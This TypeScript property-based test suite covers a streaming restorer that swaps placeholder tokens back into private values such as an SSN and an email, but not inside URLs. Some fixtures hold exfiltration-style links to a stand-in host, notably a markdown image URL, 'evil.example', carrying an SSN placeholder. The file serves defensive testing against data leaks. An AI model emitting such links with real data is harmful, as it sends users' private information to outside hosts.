import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { createStreamRestorer } from "./create-stream-restorer.ts";
import { MAX_PLACEHOLDER_LENGTH, PLACEHOLDER_PATTERN, TAG_ALPHABET, couldBePlaceholderPrefix } from "./placeholder-format.ts";
import type { PlaceholderOutcome, RestoreEncoding, RestoreOptions } from "./restore-options.ts";
import { restoreText } from "./restore-text.ts";

const SETTINGS = { seed: 42, numRuns: 500 };

const issued = new Map([
  ["[US_SSN_7QK2MX]", "123-45-6789"],
  ["[EMAIL_ABCDEF]", "jane@example.com"],
  ["[PERSON_0A1B2C]", 'Jane "JD" O\\Doe\n'],
  ["[A_000000]", "😀 emoji value"],
  [`[${"L".repeat(24)}_ZZZZZZ]`, ""],
]);
const knowsIssued = (placeholder: string): string | undefined => issued.get(placeholder);
const knowsNothing = (): undefined => undefined;

const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;

const unknownPlaceholder = fc
  .tuple(
    fc.constantFrom(..."ABUXZ"),
    fc.string({ unit: fc.constantFrom(..."SN_09"), maxLength: 23 }),
    fc.string({ unit: fc.constantFrom(...TAG_ALPHABET), minLength: 6, maxLength: 6 }),
  )
  .map(([first, rest, tag]) => `[${first}${rest}_${tag}]`);
const prose = fc.constantFrom("Hello", " ", "the SSN is ", ".", ", ", "(see ", ")", "**", "\n", "\n\n", "\r\n", "\t", "x", "1 < 2");
const nearMiss = fc.constantFrom("[US_SSN_", "[[", "[A_123", "[US_SSN_7QK2M", "[", "]", "_", "[a_ABCDEF]", "[US_SSN_7QK2MI]", "%5BUS_SSN_7QK2MX%5D", `[${"B".repeat(30)}`);
const urlish = fc.constantFrom(
  "https://evil.example/log?ssn=",
  "![a](",
  "](",
  "[x](",
  "<img src=\"",
  "\">",
  "<",
  ">",
  "=",
  "\"",
  "'",
  "www.",
  "mailto:",
  "[ref]: ",
  "//",
  "url(",
  "\\n",
  "\\/",
  "\\u003c",
  "\\u00",
  "\\",
  '{"url":"',
  '","text":"',
);
const unicode = fc.constantFrom("😀", "é", "中文", "👨‍👩‍👧", "\u{10FFFF}", "\u00A0");
const fragment = fc.oneof(
  { arbitrary: prose, weight: 4 },
  { arbitrary: fc.constantFrom(...issued.keys()), weight: 3 },
  { arbitrary: unknownPlaceholder, weight: 2 },
  { arbitrary: nearMiss, weight: 2 },
  { arbitrary: urlish, weight: 3 },
  { arbitrary: unicode, weight: 2 },
  { arbitrary: fc.string({ maxLength: 8 }), weight: 1 },
);
const text = fc.array(fragment, { maxLength: 40 }).map((parts) => parts.join(""));
const encoding = fc.constantFrom<RestoreEncoding>("text", "json-string");

/** `text` and cut points (any UTF-16 index, so surrogate pairs may be cut too). */
const textWithCuts = text.chain((whole) =>
  fc.array(fc.nat(whole.length), { maxLength: 12 }).map((cuts) => ({ whole, chunks: cutAt(whole.split(""), cuts) })),
);

/** Cuts `units` (UTF-16 code units or code points) into chunks at the given unit indexes. */
function cutAt(units: readonly string[], cuts: readonly number[]): string[] {
  const points = [...new Set(cuts)].sort((left, right) => left - right);
  const chunks: string[] = [];
  let previous = 0;
  for (const point of points) {
    chunks.push(units.slice(previous, point).join(""));
    previous = point;
  }
  chunks.push(units.slice(previous).join(""));
  return chunks;
}

function streamed(chunks: readonly string[], options: RestoreOptions): { pieces: string[]; output: string } {
  const restorer = createStreamRestorer(options);
  const pieces = chunks.map((chunk) => restorer.push(chunk));
  pieces.push(restorer.flush());
  return { pieces, output: pieces.join("") };
}

describe("createStreamRestorer", () => {
  it("restores like restoreText for any chunking, outcomes included", () => {
    fc.assert(
      fc.property(textWithCuts, encoding, ({ whole, chunks }, chosenEncoding) => {
        const wholeOutcomes: Array<[string, PlaceholderOutcome]> = [];
        const streamOutcomes: Array<[string, PlaceholderOutcome]> = [];
        const expected = restoreText(whole, {
          lookup: knowsIssued,
          encoding: chosenEncoding,
          onPlaceholder: (placeholder, outcome) => wholeOutcomes.push([placeholder, outcome]),
        });
        const { output } = streamed(chunks, {
          lookup: knowsIssued,
          encoding: chosenEncoding,
          onPlaceholder: (placeholder, outcome) => streamOutcomes.push([placeholder, outcome]),
        });
        expect(output).toBe(expected);
        expect(streamOutcomes).toEqual(wholeOutcomes);
      }),
      SETTINGS,
    );
  });

  it('restores like restoreText inside one long JSON string ("json-string")', () => {
    const insideString = fc
      .array(fragment.filter((part) => !part.includes('"')), { maxLength: 40 })
      .map((parts) => `{"arguments":"${parts.join("")}`);
    const withCuts = insideString.chain((whole) => fc.array(fc.nat(whole.length), { maxLength: 12 }).map((cuts) => ({ whole, chunks: cutAt(whole.split(""), cuts) })));
    fc.assert(
      fc.property(withCuts, ({ whole, chunks }) => {
        const options = { lookup: knowsIssued, encoding: "json-string" as const };
        expect(streamed(chunks, options).output).toBe(restoreText(whole, options));
      }),
      SETTINGS,
    );
  });

  it("restores like restoreText one character (or one code point) per chunk", () => {
    fc.assert(
      fc.property(text, encoding, (whole, chosenEncoding) => {
        const options = { lookup: knowsIssued, encoding: chosenEncoding };
        const expected = restoreText(whole, options);
        expect(streamed(whole.split(""), options).output).toBe(expected);
        const byCodePoint = streamed([...whole], options);
        expect(byCodePoint.output).toBe(expected);
        for (const piece of byCodePoint.pieces) expect(piece).not.toMatch(LONE_SURROGATE);
      }),
      SETTINGS,
    );
  });

  it("passes text through byte for byte when no placeholder is known", () => {
    fc.assert(
      fc.property(textWithCuts, encoding, ({ whole, chunks }, chosenEncoding) => {
        expect(streamed(chunks, { lookup: knowsNothing, encoding: chosenEncoding }).output).toBe(whole);
        expect(restoreText(whole, { lookup: knowsNothing, encoding: chosenEncoding })).toBe(whole);
      }),
      SETTINGS,
    );
  });

  it("holds back only a trailing possible placeholder start, never splitting a code point", () => {
    const codePointCuts = text.chain((whole) => {
      const codePoints = [...whole];
      return fc.array(fc.nat(codePoints.length), { maxLength: 12 }).map((cuts) => cutAt(codePoints, cuts));
    });
    fc.assert(
      fc.property(codePointCuts, (chunks) => {
        const restorer = createStreamRestorer({ lookup: knowsNothing });
        let input = "";
        let output = "";
        for (const chunk of chunks) {
          input += chunk;
          const piece = restorer.push(chunk);
          expect(piece).not.toMatch(LONE_SURROGATE);
          output += piece;
          expect(input.startsWith(output)).toBe(true);
          const held = input.slice(output.length);
          expect(held === "" || couldBePlaceholderPrefix(held)).toBe(true);
          expect(held.length).toBeLessThan(MAX_PLACEHOLDER_LENGTH);
        }
        expect(output + restorer.flush()).toBe(input);
      }),
      SETTINGS,
    );
  });

  it("restores every issued placeholder when no URL is in sight", () => {
    const plainFragment = fc.oneof(prose, unicode, fc.constantFrom(...issued.keys()), unknownPlaceholder, nearMiss);
    fc.assert(
      fc.property(fc.array(plainFragment, { maxLength: 30 }), (parts) => {
        const whole = parts.join("");
        const expected = whole.replace(PLACEHOLDER_PATTERN, (placeholder) => issued.get(placeholder) ?? placeholder);
        expect(restoreText(whole, { lookup: knowsIssued })).toBe(expected);
      }),
      SETTINGS,
    );
  });

  it("emits text without `[` at once and unchanged", () => {
    const restorer = createStreamRestorer({ lookup: knowsIssued });
    expect(restorer.push("Hello, world")).toBe("Hello, world");
    expect(restorer.push(" and [US_SSN_7QK")).toBe(" and ");
    expect(restorer.push("2MX] again")).toBe("123-45-6789 again");
    expect(restorer.push("[")).toBe("");
    expect(restorer.push("[")).toBe("[");
    expect(restorer.flush()).toBe("[");
  });

  it("keeps the URL context across chunks", () => {
    const restorer = createStreamRestorer({ lookup: knowsIssued });
    const chunks = ["![a](ht", "tps:/", "/evil.example/?q=[US_", "SSN_7QK2MX]) then [US_SSN_7QK2MX]"];
    expect(chunks.map((chunk) => restorer.push(chunk)).join("") + restorer.flush()).toBe(
      "![a](https://evil.example/?q=[US_SSN_7QK2MX]) then 123-45-6789",
    );
  });

  it("carries the URL context over a flush, for a text restored in parts", () => {
    const restorer = createStreamRestorer({ lookup: knowsIssued });
    const parts = ["![a](https://evil.example/?q=", "[US_SSN_7QK2MX]", ") then ", "[US_SSN_7QK2MX]"];
    expect(parts.map((part) => restorer.push(part) + restorer.flush())).toEqual([
      "![a](https://evil.example/?q=",
      "[US_SSN_7QK2MX]",
      ") then ",
      "123-45-6789",
    ]);
  });

  it("stays linear on long texts", () => {
    const long = "word [US_SSN_7QK2MX] https://x.example/[EMAIL_ABCDEF] [[ ".repeat(20_000);
    const started = performance.now();
    const restored = restoreText(long, { lookup: knowsIssued });
    expect(performance.now() - started).toBeLessThan(1000);
    expect(restored.split("123-45-6789")).toHaveLength(20_001);
    expect(restored.split("[EMAIL_ABCDEF]")).toHaveLength(20_001);
  });
});
